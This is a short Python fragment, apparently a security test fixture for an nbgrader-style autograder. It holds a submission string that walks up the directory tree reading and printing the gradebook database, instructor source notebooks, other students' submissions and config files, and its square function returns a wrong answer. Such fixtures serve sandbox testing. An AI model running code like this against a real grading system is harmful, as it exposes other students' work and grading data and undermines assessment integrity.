"""Opens the gradebook, the source and other submissions by the path it guesses."""

SQUARE = r"""
import os, glob
for start in (os.getcwd(), os.environ.get("TARGET_ROOT", "/"), os.environ.get("PWD", "/")):
    here = start
    while here != "/":
        for pattern in ("gradebook.db", "source/*/*.ipynb", "submitted/*/*/*.ipynb", "nbgrader_config.py", "release/*/*", "autograded/*/*/*"):
            for path in glob.glob(os.path.join(here, pattern)):
                print(path, open(path, "rb").read(100_000))
        here = os.path.dirname(here)
def square(x):
    return 0
"""
